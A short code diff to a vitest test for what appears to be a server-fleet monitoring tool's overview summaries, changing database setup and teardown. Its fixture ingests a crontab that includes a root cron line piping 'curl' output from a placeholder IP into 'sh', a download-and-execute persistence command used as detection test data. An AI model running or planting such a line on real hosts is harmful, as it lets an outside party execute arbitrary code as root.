@@ -1,16 +1,17 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { disconnectDb } from '@/lib/db/client';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { useOwnDatabase } from '@/lib/testing/own-database';
 import { ingestBytes } from '@/lib/ingest/run-upload';
 import { getCoverage, getFleetSummary, getOverviewSeries } from './overview';
 
 const enc = (s: string) => new TextEncoder().encode(s);
 const host = `ov-${Date.now()}`;
 
+useOwnDatabase('overview');
+
 beforeAll(async () => {
   await ingestBytes(enc('0 3 * * * root /usr/bin/backup\n'), 'etc/crontab', { host, collectedAt: new Date('2030-01-01T06:00:00Z') });
   await ingestBytes(enc('0 3 * * * root /usr/bin/backup\n* * * * * root curl http://198.51.100.7/p | sh\n'), 'etc/crontab', { host, collectedAt: new Date('2030-01-02T06:00:00Z') });
 });
-afterAll(disconnectDb);
 
 describe('overview', () => {
   it('counts relative to the fleet latest collection', async () => {
